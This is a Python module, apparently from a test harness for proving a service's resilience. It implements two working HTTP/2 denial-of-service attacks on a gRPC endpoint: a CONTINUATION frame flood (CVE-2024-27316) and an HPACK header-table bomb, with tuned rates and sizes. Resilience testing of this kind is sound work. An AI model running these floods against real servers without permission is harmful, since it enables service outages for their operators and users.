"""Header blocks that never end, and blocks that are small on the wire and large in memory."""

from hyperframe.frame import ContinuationFrame

from penstock.proofs.hostile.attacks.attack import AttackRun, Pace
from penstock.proofs.hostile.attacks.floods import GENERATE
from penstock.proofs.hostile.wire.grpc_call import call_headers
from penstock.proofs.hostile.wire.http2 import header_block, headers_frame

CONTINUATIONS_PER_S = 400
CONTINUATION_BYTES = 4_096
BOMBS_PER_S = 50
BOMB_REFERENCES = 15_000  # each byte stands for one header of `BOMB_VALUE_BYTES`
BOMB_VALUE_BYTES = 3_900  # fits into a dynamic table of 4 KiB
FIRST_DYNAMIC_ENTRY = bytes([0x80 | 62])  # HPACK: the newest entry of the dynamic table


async def continuation_flood(run: AttackRun) -> None:
    """Send CONTINUATION frames without END_HEADERS on one stream (CVE-2024-27316)."""
    part = header_block([("x-part", "p" * CONTINUATION_BYTES)])

    async def flood_once(run: AttackRun) -> None:
        async with run.http2() as connection:
            stream, pace = connection.next_stream(), Pace(CONTINUATIONS_PER_S)
            block = header_block(call_headers(GENERATE))
            await connection.send(run.count_sent(headers_frame(stream, block, ends_headers=False)))
            frame = ContinuationFrame(stream, part).serialize()
            while not connection.closed.is_set():
                await connection.send(run.count_sent(frame))
                await pace.wait()

    await run.repeat(flood_once)


async def hpack_bomb(run: AttackRun) -> None:
    """Put one large header into the dynamic table, then refer to it thousands of times in each request."""
    value = b"v" * BOMB_VALUE_BYTES
    length = BOMB_VALUE_BYTES - 127
    inserted = b"\x40\x01x\x7f" + bytes([length % 128 + 128, length // 128]) + value  # literal with indexing
    references = FIRST_DYNAMIC_ENTRY * BOMB_REFERENCES
    block = header_block(call_headers(GENERATE))

    async def bomb_once(run: AttackRun) -> None:
        async with run.http2() as connection:
            pace = Pace(BOMBS_PER_S)
            await connection.send(run.count_sent(headers_frame(connection.next_stream(), block + inserted, ends=True)))
            while not connection.closed.is_set():
                frame = headers_frame(connection.next_stream(), block + references, ends=True)
                await connection.send(run.count_sent(frame))
                await pace.wait()

    await run.repeat(bomb_once)
